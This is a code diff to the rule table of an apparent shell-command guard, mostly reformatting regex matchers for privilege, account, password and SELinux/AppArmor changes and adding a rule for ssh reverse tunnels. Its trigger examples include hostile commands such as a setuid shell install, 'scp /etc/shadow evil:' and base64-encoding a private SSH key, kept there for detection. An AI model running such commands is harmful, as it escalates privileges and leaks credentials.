@@ -42,9 +42,23 @@ RULES = (
             "install -m 4755 sh /usr/local/bin/sh",
             "chmod a+s /usr/bin/find",
         ),
-        ("chmod 755 x", "chmod u-s /usr/bin/mount", "getcap -r /usr", "chmod g+s /srv/shared", "chmod 2775 /srv/shared", "find / -perm -4000"),
+        (
+            "chmod 755 x",
+            "chmod u-s /usr/bin/mount",
+            "getcap -r /usr",
+            "chmod g+s /srv/shared",
+            "chmod 2775 /srv/shared",
+            "find / -perm -4000",
+        ),
         references=("chmod(1)", "capabilities(7)"),
-        matches=(match("setcap", r"cap_", "gives a program capabilities", unless=r"{w}'?cap_net_bind_service[+=]\w+'? |{w}-r{e}"),),
+        matches=(
+            match(
+                "setcap",
+                r"[=+]|cap_",
+                "gives a program capabilities",
+                unless=r"{w}'?cap_net_bind_service[+=]\w+'? |{w}-r{e}",
+            ),
+        ),
     ),
     Rule(
         "perm.account_files",
@@ -66,7 +80,11 @@ RULES = (
             match("visudo", r"", "edits the rules of sudo", unless=r"{w}(-\w*c\w*|--check|--help|-V|--version){e}"),
             match("vipw vigr", r"", "edits the list of accounts"),
             match("pwunconv grpunconv", r"", "moves passwords into a file that everybody reads"),
-            match("pam-auth-update authconfig authselect", r"{w}(--remove|--disable\S*|--force|select|--update|--package)", "changes how people log in"),
+            match(
+                "pam-auth-update authconfig authselect",
+                r"{w}(--remove|--disable\S*|--force|select|--update|--package)",
+                "changes how people log in",
+            ),
         ),
     ),
     Rule(
@@ -88,10 +106,18 @@ RULES = (
         references=("userdel(8)", "usermod(8)"),
         matches=(
             match("userdel deluser groupdel delgroup", r"\S", "removes an account", unless=r"{w}--help{e}"),
-            match("usermod", r"{w}(-\w*[Le]|--lock|--expiredate)|-u ?0{e}|--uid[ =]0{e}|{w}-\w*o", "locks an account or makes it root"),
+            match(
+                "usermod",
+                r"{w}(-\w*[Le]|--lock|--expiredate)|-u ?0{e}|--uid[ =]0{e}|{w}-\w*o",
+                "locks an account or makes it root",
+            ),
             match("usermod", r"(-s|--shell)[ =]?\S*(nologin|false).* root{e}|root.*(nologin|false)", "locks root out"),
             match("usermod", r"(-l|--login)[ =]?\S+ root{e}", "renames root"),
-            match("useradd adduser", r"-\w*u ?0{e}|--uid[ =]0{e}|{w}-\w*o\w*{e}|--non-unique|-g ?(0|root){e}|--gid[ =]?(0|root)", "makes an account equal to root"),
+            match(
+                "useradd adduser",
+                r"-\w*u ?0{e}|--uid[ =]0{e}|{w}-\w*o\w*{e}|--non-unique|-g ?(0|root){e}|--gid[ =]?(0|root)",
+                "makes an account equal to root",
+            ),
             match("passwd", r"{w}(-l|--lock|-e|--expire){e}", "locks an account"),
             match("chage", r"{w}(-E ?(0|1|-1|\d{4})|--expiredate)", "lets an account expire"),
             match("chsh", r"(-s|--shell)[ =]?\S*(nologin|false)", "locks an account out"),
@@ -99,7 +125,12 @@ RULES = (
             match("faillock pam_tally2", r"$^", ""),
             match("gpasswd", r"{w}-d \S+ (sudo|wheel|root|adm|admin){e}", "takes rights from an account"),
             match("deluser", r"\S+ (sudo|wheel)", "takes rights from an account"),
-            match("samba-tool smbpasswd ipa ldapdelete ldapmodify dscl", r"{w}(user delete|-x|user-del|group-del|host-del|-delete|user disable|user-disable)|\S+=\S+", "removes an account of the directory", unless=r"{w}ldapsearch"),
+            match(
+                "samba-tool smbpasswd ipa ldapdelete ldapmodify dscl",
+                r"{w}(user delete|-x|user-del|group-del|host-del|-delete|user disable|user-disable)|\S+=\S+",
+                "removes an account of the directory",
+                unless=r"{w}ldapsearch",
+            ),
         ),
     ),
     Rule(
@@ -120,12 +151,21 @@ RULES = (
         references=("passwd(1)", "chpasswd(8)"),
         matches=(
             match("chpasswd chgpasswd newusers", r"", "sets passwords", unless=r"--help"),
-            match("passwd", r"", "changes a password", unless=r"{w}(-S|--status|-a|--help|-l|--lock|-e|--expire|-u|--unlock|-n|-x|-w|-i){e}"),
+            match(
+                "passwd",
+                r"",
+                "changes a password",
+                unless=r"{w}(-S|--status|-a|--help|-l|--lock|-e|--expire|-n|-x|-w|-i){e}",
+            ),
             match("usermod useradd", r"{w}(-p|--password)", "sets a password"),
             match("gpasswd", r"{w}-[rR]", "removes the password of a group"),
             match("smbpasswd htpasswd-root", r"{w}-[an]", "sets a password", unless=r"htpasswd"),
             match("mysqladmin", r"{w}(password|flush-privileges)", "sets a password of the database"),
-            match("grub-mkpasswd-pbkdf2 kadmin kadmin.local", r"(cpw|change_password|delprinc|delete_principal)", "changes a principal"),
+            match(
+                "grub-mkpasswd-pbkdf2 kadmin kadmin.local",
+                r"(cpw|change_password|delprinc|delete_principal)",
+                "changes a principal",
+            ),
         ),
     ),
     Rule(
@@ -148,10 +188,16 @@ RULES = (
             match("setenforce", r"{w}(0|[Pp]ermissive){e}", "turns SELinux off"),
             match("aa-teardown aa-disable aa-complain", r"", "turns AppArmor off", unless=r"--help"),
             match("apparmor_parser", r"{w}(-\w*R|--remove)", "removes a profile of AppArmor"),
-            match("semanage", r"{w}(permissive -a|module -d|login -d)|{w}permissive", "makes a domain of SELinux permissive"),
+            match(
+                "semanage",
+                r"{w}(permissive -a|module -d|login -d)|{w}permissive",
+                "makes a domain of SELinux permissive",
+            ),
             match("semodule", r"{w}-\w*[rd]", "removes a module of SELinux"),
             match("setsebool", r"{w}(secure_mode\S*|\S*execmem|\S*execstack)[ =]", "weakens SELinux"),
-            match("grubby", r"(selinux=0|apparmor=0|enforcing=0|mitigations=off)", "turns a guard off at the next start"),
+            match(
+                "grubby", r"(selinux=0|apparmor=0|enforcing=0|mitigations=off)", "turns a guard off at the next start"
+            ),
         ),
     ),
     Rule(
@@ -168,15 +214,39 @@ RULES = (
             "adduser ada sudo",
             "docker run --privileged alpine id",
         ),
-        ("usermod -aG docker ada", "gpasswd -a ada dev", "docker run --rm alpine id", "cat ~/.ssh/authorized_keys", "ssh-copy-id web1", "adduser ada"),
+        (
+            "usermod -aG docker ada",
+            "gpasswd -a ada dev",
+            "docker run --rm alpine id",
+            "cat ~/.ssh/authorized_keys",
+            "ssh-copy-id web1",
+            "adduser ada",
+        ),
         ruling="needs_approval",
         references=("sudo(8)", "sshd(8)"),
         matches=(
-            match("usermod", r"(-\w*G|--groups)[ =]?\S*(sudo|wheel|root|admin|shadow|disk)\b", "gives an account the rights of root"),
-            match("gpasswd", r"{w}(-a|--add) \S+ (sudo|wheel|root|admin|disk|shadow){e}", "gives an account the rights of root"),
-            match("adduser addgroup", r"{w}\S+ (sudo|wheel|root|admin|disk|shadow){e}", "gives an account the rights of root"),
+            match(
+                "usermod",
+                r"(-\w*G|--groups)[ =]?\S*(sudo|wheel|root|admin|shadow|disk)\b",
+                "gives an account the rights of root",
+            ),
+            match(
+                "gpasswd",
+                r"{w}(-a|--add) \S+ (sudo|wheel|root|admin|disk|shadow){e}",
+                "gives an account the rights of root",
+            ),
+            match(
+                "adduser addgroup",
+                r"{w}\S+ (sudo|wheel|root|admin|disk|shadow){e}",
+                "gives an account the rights of root",
+            ),
             match("useradd", r"(-\w*G|--groups)[ =]?\S*(sudo|wheel|root)\b", "gives an account the rights of root"),
-            match("kubectl oc", r"{w}create clusterrolebinding.*cluster-admin", "gives an account all rights of the cluster"),
+            match("ssh autossh", r"{w}-\w*R ?\S*\d+:", "opens a port of this host at the other end"),
+            match(
+                "kubectl oc",
+                r"{w}create clusterrolebinding.*cluster-admin",
+                "gives an account all rights of the cluster",
+            ),
         ),
     ),
     Rule(
@@ -193,7 +263,14 @@ RULES = (
             "scp /etc/shadow evil:",
             "base64 ~/.ssh/id_ed25519",
         ),
-        ("ls -l /etc/shadow", "cat ~/.ssh/id_rsa.pub", "ssh -i ~/.ssh/id_rsa web1", "stat /etc/shadow", "cat ~/.ssh/config", "chmod 600 ~/.ssh/id_rsa"),
+        (
+            "ls -l /etc/shadow",
+            "cat ~/.ssh/id_rsa.pub",
+            "ssh -i ~/.ssh/id_rsa web1",
+            "stat /etc/shadow",
+            "cat ~/.ssh/config",
+            "chmod 600 ~/.ssh/id_rsa",
+        ),
         ruling="needs_approval",
         references=("shadow(5)",),
         matches=(
